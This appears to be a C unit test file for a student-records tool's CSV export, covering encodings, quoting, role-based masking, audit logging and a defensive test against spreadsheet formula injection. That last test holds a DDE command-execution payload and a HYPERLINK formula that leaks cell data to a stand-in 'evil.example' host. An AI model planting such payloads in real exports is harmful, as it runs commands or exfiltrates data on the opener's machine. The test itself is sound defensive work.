/*
 * xueji — student records for a training branch.
 * Copyright (C) 2026 the xueji authors.  GPL-3.0-or-later; see COPYING.
 *
 * Issue 7: the CSV export — UTF-8 with BOM and GB18030, RFC 4180
 * quoting, masking by role, the required purpose kept out of the chain;
 * values that begin like a spreadsheet formula exported as text.
 */
#include <errno.h>
#include <iconv.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "xueji/platform.h"
#include "xueji/backup.h"
#include "xueji/student.h"
#include "lib/testlib.h"
#include "lib/branch.h"

static const char form[] =
    "form: enrollment\n"
    "title: {zh: 入学登记, en: Enrolment}\n"
    "fields:\n"
    "  - {key: name, type: name, required: true, width: 20,\n"
    "     label: {zh: 学员姓名, en: Name}, purpose: {zh: 识别, en: Who}}\n"
    "  - {key: birth_month, type: year_month, required: true,\n"
    "     width: 8, label: {zh: 出生年月, en: Born},\n"
    "     purpose: {zh: 分班, en: Class}}\n"
    "  - {key: guardian_name, type: name, required: true, width: 20,\n"
    "     label: {zh: 家长姓名, en: Guardian}, purpose: {zh: 联系, en: C}}\n"
    "  - {key: guardian_phone, type: phone, required: true,\n"
    "     width: 14, label: {zh: 电话, en: Phone},\n"
    "     purpose: {zh: 联系, en: Contact}}\n"
    "  - {key: allergies, type: text, sensitivity: sensitive,\n"
    "     width: 30, label: {zh: 过敏, en: Allergies},\n"
    "     purpose: {zh: 安全, en: Safety in class}}\n"
    "  - {key: remarks, type: note, width: 30,\n"
    "     label: {zh: 备注, en: \"Remarks, misc\"},\n"
    "     purpose: {zh: 备注, en: Notes}}\n"
    "consent:\n"
    "  - {value: in-person, label: {zh: 当面, en: In person}}\n";

struct fixture {
	struct tl_branch	*b;
	char			*forms;
	struct session		*sv;
	char			*n1, *n2;
};

static char *
enrol(struct session *s, const struct field_input *in, size_t n)
{
	struct enrolment	 en = { in, n, "in-person", 0 };
	char			*number = NULL, *dup = NULL, *cause = NULL;

	if (store_student_add(s->st, &en, &number, &dup, &cause) != XJ_OK)
		fail_msg("enrol: %s", cause);
	free(dup);
	return number;
}

static int
setup(void **state)
{
	struct fixture		*f = xcalloc(1, sizeof *f);
	const struct field_input a[] = {
		{ "name", "O'Neil Anna" }, { "birth_month", "2016-05" },
		{ "guardian_name", "林大山" }, { "guardian_phone", "13611112222" },
		{ "allergies", "花生" },
		{ "remarks", "他说\"好\", 明天来\n第二行" },
	};
	const struct field_input b[] = {
		{ "name", "欧阳𠮷·娜" }, { "birth_month", "2017-01" },
		{ "guardian_name", "欧阳父" }, { "guardian_phone", "13955556666" },
	};

	setenv("LANGUAGE", "en", 1);
	f->forms = tl_forms_dir(form);
	f->b = tl_branch_forms(f->forms, NULL);
	f->sv = tl_login(f->b, "supervisor1");
	f->n1 = enrol(f->sv, a, nitems(a));
	f->n2 = enrol(f->sv, b, nitems(b));
	*state = f;
	return 0;
}

static int
teardown(void **state)
{
	struct fixture	*f = *state;

	session_free(f->sv);
	tl_check_db(f->b);
	tl_branch_free(f->b);
	tl_rmtree(f->forms);
	free(f->forms);
	free(f->n1);
	free(f->n2);
	free(f);
	unsetenv("LANGUAGE");
	return 0;
}

/* Export into memory; returns the status code. */
static int
export(struct session *s, int status, const char *purpose,
    enum export_encoding enc, char **buf, size_t *len, size_t *rows)
{
	FILE	*fp;
	char	*cause = NULL;
	int	 rc;

	*buf = NULL;
	*len = 0;
	fp = open_memstream(buf, len);
	assert_non_null(fp);
	rc = store_export(s->st, fp, status, purpose, enc, rows, &cause);
	fclose(fp);
	if (rc != XJ_OK) {
		assert_non_null(cause);
		free(cause);
	}
	return rc;
}

static void
test_utf8_bom(void **state)
{
	struct fixture	*f = *state;
	char		*buf, *want, *a;
	size_t		 len, rows;

	assert_int_equal(export(f->sv, -1, "家长会名单", EXPORT_UTF8_BOM, &buf,
	    &len, &rows), XJ_OK);
	assert_int_equal(rows, 2);
	assert_memory_equal(buf, "\xef\xbb\xbf", 3);
	xasprintf(&want,
	    "Student number,Status,Name,Born,Guardian,Phone,Allergies,"
	    "\"Remarks, misc\"\r\n"
	    "%s,%s,O'Neil Anna,2016-05,林大山,13611112222,花生,"
	    "\"他说\"\"好\"\", 明天来\n第二行\"\r\n"
	    "%s,%s,欧阳𠮷·娜,2017-01,欧阳父,13955556666,,\r\n",
	    f->n1, status_label(STATUS_ACTIVE), f->n2,
	    status_label(STATUS_ACTIVE));
	assert_int_equal(len, strlen(want) + 3);
	assert_string_equal(buf + 3, want);
	free(want);
	free(buf);

	/* Logged with the count and filter; the purpose is elsewhere. */
	a = tl_query(f->sv, "SELECT detail FROM audit WHERE action = "
	    "'export.run'");
	assert_non_null(a);
	assert_non_null(strstr(a, "rows=2 status=all encoding=utf-8 export="));
	free(a);
	a = tl_query(f->sv, "SELECT count(*) FROM audit WHERE detail LIKE "
	    "'%家长会%'");
	assert_string_equal(a, "0");
	free(a);
	a = tl_query(f->sv, "SELECT purpose || ' ' || rows || ' ' || operator "
	    "FROM export_log");
	assert_string_equal(a, "家长会名单 2 supervisor1");
	free(a);
}

static void
test_chinese_header(void **state)
{
	struct fixture	*f = *state;
	char		*buf;
	size_t		 len, rows;

	setenv("LANGUAGE", "zh_CN", 1);
	assert_int_equal(export(f->sv, -1, "检查", EXPORT_UTF8_BOM, &buf,
	    &len, &rows), XJ_OK);
	assert_int_equal(strncmp(buf + 3, "学号,状态,学员姓名,出生年月,家长姓名,"
	    "电话,过敏,备注\r\n", strlen("学号,状态,学员姓名,出生年月,家长姓名,"
	    "电话,过敏,备注\r\n")), 0);
	free(buf);
	setenv("LANGUAGE", "en", 1);
}

static void
test_gb18030(void **state)
{
	struct fixture	*f = *state;
	char		*utf8, *gb, *dec, *in, *out;
	size_t		 ulen, glen, rows, left, room;
	iconv_t		 cd;

	assert_int_equal(export(f->sv, -1, "对账", EXPORT_UTF8_BOM, &utf8,
	    &ulen, &rows), XJ_OK);
	assert_int_equal(export(f->sv, -1, "对账", EXPORT_GB18030, &gb, &glen,
	    &rows), XJ_OK);
	assert_int_equal(rows, 2);
	/* No BOM, and not UTF-8: 学 is D1 A7 in GB18030. */
	assert_memory_not_equal(gb, "\xef\xbb\xbf", 3);
	assert_memory_equal(gb, "Student", 7);
	assert_false(utf8_valid(gb, glen));
	cd = iconv_open("UTF-8", "GB18030");
	assert_true(cd != (iconv_t)-1);
	dec = xmalloc(4 * glen + 1);
	in = gb;
	out = dec;
	left = glen;
	room = 4 * glen;
	assert_true(iconv(cd, &in, &left, &out, &room) != (size_t)-1);
	iconv_close(cd);
	*out = '\0';
	/* Even 𠮷, outside the BMP, comes back. */
	assert_string_equal(dec, utf8 + 3);
	assert_non_null(strstr(dec, "欧阳𠮷·娜"));
	free(dec);
	free(gb);
	free(utf8);
	dec = tl_query(f->sv, "SELECT count(*) FROM export_log WHERE "
	    "encoding = 'gb18030'");
	assert_string_equal(dec, "1");
	free(dec);
}

static void
test_masked_by_role(void **state)
{
	struct fixture	*f = *state;
	struct role	 role = { (char *)(uintptr_t)"exporter",
	    PERM_BIT(PERM_EXPORT_RUN) };
	struct operator	 op = { (char *)(uintptr_t)"exporter1",
	    (char *)(uintptr_t)"导出员", &role };
	char		*buf;
	size_t		 len, rows;

	/* A role with export.run but neither student.phone nor .sensitive. */
	store_bind(f->sv->st, f->sv->cfg, f->sv->form, &op);
	assert_int_equal(export(f->sv, -1, "名单", EXPORT_UTF8_BOM, &buf, &len,
	    &rows), XJ_OK);
	store_bind(f->sv->st, f->sv->cfg, f->sv->form, f->sv->op);
	assert_int_equal(rows, 2);
	assert_non_null(strstr(buf, "Guardian,Phone,\"Remarks, misc\"\r\n"));
	assert_null(strstr(buf, "Allergies"));
	assert_null(strstr(buf, "花生"));
	assert_null(strstr(buf, "13611112222"));
	assert_non_null(strstr(buf, "136****2222"));
	assert_non_null(strstr(buf, "139****6666"));
	free(buf);
}

static void
test_refused(void **state)
{
	struct fixture	*f = *state;
	struct session	*r = tl_login(f->b, "reception1");
	char		*buf, *a;
	size_t		 len, rows = 7;

	assert_int_equal(export(r, -1, "名单", EXPORT_UTF8_BOM, &buf, &len,
	    &rows), XJ_EPERM);
	assert_int_equal(len, 0);
	assert_int_equal(rows, 0);
	free(buf);
	a = tl_query(r, "SELECT detail FROM audit ORDER BY seq DESC LIMIT 1");
	assert_string_equal(a, "perm=export.run what=export");
	free(a);
	session_free(r);

	assert_int_equal(export(f->sv, -1, NULL, EXPORT_UTF8_BOM, &buf, &len,
	    &rows), XJ_EUSAGE);
	assert_int_equal(len, 0);
	free(buf);
	assert_int_equal(export(f->sv, -1, "  \t ", EXPORT_UTF8_BOM, &buf,
	    &len, &rows), XJ_EUSAGE);
	assert_int_equal(len, 0);
	free(buf);
	assert_int_equal(export(f->sv, -1, "two\nlines", EXPORT_UTF8_BOM, &buf,
	    &len, &rows), XJ_EUSAGE);
	free(buf);
	a = tl_query(f->sv, "SELECT count(*) FROM audit WHERE action = "
	    "'export.run'");
	assert_string_equal(a, "0");
	free(a);
}

static void
test_status_filter(void **state)
{
	struct fixture	*f = *state;
	char		*buf, *cause = NULL, *a;
	size_t		 len, rows;

	assert_int_equal(store_status_set(f->sv->st, f->n2, STATUS_WITHDRAWN,
	    "搬家", &cause), XJ_OK);
	assert_int_equal(export(f->sv, STATUS_WITHDRAWN, "退学名单",
	    EXPORT_UTF8_BOM, &buf, &len, &rows), XJ_OK);
	assert_int_equal(rows, 1);
	assert_non_null(strstr(buf, f->n2));
	assert_null(strstr(buf, f->n1));
	free(buf);
	assert_int_equal(export(f->sv, STATUS_COMPLETED, "结业名单",
	    EXPORT_UTF8_BOM, &buf, &len, &rows), XJ_OK);
	assert_int_equal(rows, 0);
	free(buf);
	a = tl_query(f->sv, "SELECT detail FROM audit WHERE action = "
	    "'export.run' ORDER BY seq DESC LIMIT 1");
	assert_non_null(strstr(a, "rows=0 status=completed"));
	free(a);
}

/*
 * Issue 7, formula injection: whatever was typed into a free-text field
 * and begins with = + - or @ must not run when the export is opened in
 * Excel or WPS.  Such a cell gets an apostrophe in front (inside the
 * quotes when it has any); the rest of the file is as before.
 */
static void
test_formula_injection(void **state)
{
	const struct field_input in[] = {
		{ "name", "钱小多" }, { "birth_month", "2015-02" },
		{ "guardian_name", "钱父" }, { "guardian_phone", "+86 139 0000 1111" },
		{ "allergies", "@SUM(1+1)*cmd|' /C calc'!A0" },
		{ "remarks", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")" },
	};
	const struct field_input in2[] = {
		{ "name", "孙小少" }, { "birth_month", "2015-03" },
		{ "guardian_name", "孙母" }, { "guardian_phone", "13900002222" },
		{ "allergies", "-青霉素" }, { "remarks", "+1 是爸爸的号码" },
	};
	struct fixture	*f = *state;
	char		*n3, *n4, *buf, *want;
	size_t		 len, rows;

	n3 = enrol(f->sv, in, nitems(in));
	n4 = enrol(f->sv, in2, nitems(in2));
	assert_int_equal(export(f->sv, -1, "对账", EXPORT_UTF8_BOM, &buf, &len,
	    &rows), XJ_OK);
	assert_int_equal(rows, 4);
	/* The phone was stored as its digits: no +86, nothing to guard. */
	xasprintf(&want, "%s,%s,钱小多,2015-02,钱父,13900001111,"
	    "'@SUM(1+1)*cmd|' /C calc'!A0,"
	    "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点我\"\")\"\r\n",
	    n3, status_label(STATUS_ACTIVE));
	assert_non_null(strstr(buf, want));
	free(want);
	xasprintf(&want, "%s,%s,孙小少,2015-03,孙母,13900002222,'-青霉素,"
	    "'+1 是爸爸的号码\r\n", n4, status_label(STATUS_ACTIVE));
	assert_non_null(strstr(buf, want));
	free(want);
	/* No line of the file has a cell that starts a formula. */
	assert_null(strstr(buf, ",="));
	assert_null(strstr(buf, ",\"="));
	assert_null(strstr(buf, ",@"));
	assert_null(strstr(buf, ",-"));
	assert_null(strstr(buf, ",+"));
	/* Untouched: an apostrophe inside a name, the other records. */
	assert_non_null(strstr(buf, ",O'Neil Anna,2016-05,"));
	free(buf);
	free(n3);
	free(n4);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_utf8_bom, setup, teardown),
		cmocka_unit_test_setup_teardown(test_chinese_header, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(test_gb18030, setup, teardown),
		cmocka_unit_test_setup_teardown(test_masked_by_role, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(test_refused, setup, teardown),
		cmocka_unit_test_setup_teardown(test_status_filter, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(test_formula_injection, setup,
		    teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
